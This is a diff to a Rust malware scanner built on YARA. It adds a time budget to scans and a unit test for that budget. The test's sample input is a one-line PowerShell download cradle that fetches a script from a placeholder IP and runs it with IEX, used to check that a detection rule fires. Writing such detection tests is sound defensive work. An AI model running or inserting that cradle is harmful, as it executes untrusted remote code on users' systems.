@@ -123,8 +123,15 @@ fn collect(p: &Path, out: &mut Vec<std::path::PathBuf>) -> std::io::Result<()> {
     Ok(())
 }
 
-/// Scans `data` and adds one finding per matching rule to `node`.
-pub(crate) fn scan(scanner: &mut yara_x::Scanner<'_>, node: &mut Node, data: &[u8]) {
+/// Scans `data` within `timeout` (what is left of the walk's time budget) and adds one finding per
+/// matching rule to `node`.
+pub(crate) fn scan(
+    scanner: &mut yara_x::Scanner<'_>,
+    node: &mut Node,
+    data: &[u8],
+    timeout: Duration,
+) {
+    scanner.set_timeout(timeout);
     let results = match scanner.scan(data) {
         Ok(r) => r,
         Err(e) => {
@@ -269,5 +276,24 @@ mod tests {
         assert!(err.contains("broken.yar"), "{err}");
         std::fs::remove_dir_all(&dir).ok();
         assert!(YaraRules::load(&[Path::new("/nonexistent/rules")]).is_err());
+    }
+
+    #[test]
+    fn no_scan_once_the_time_budget_is_spent() {
+        // With no time left the object is reported as a time limit and YARA does not run at all
+        // (it used to run first, with the whole budget as its own timeout).
+        let mut o = opts();
+        o.limits.max_time = std::time::Duration::ZERO;
+        let ps = b"$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.7/a')";
+        let n = analyse(ps, "update.ps1", None, &o);
+        assert!(n.has("content.limit"), "{:?}", n.findings);
+        assert!(
+            !n.findings.iter().any(|f| f.id.starts_with("yara.")),
+            "{:?}",
+            n.findings
+        );
+        // With time left the same object matches.
+        let n = analyse(ps, "update.ps1", None, &opts());
+        assert!(n.has("yara.SW_PowerShell_Download_Cradle"));
     }
 }
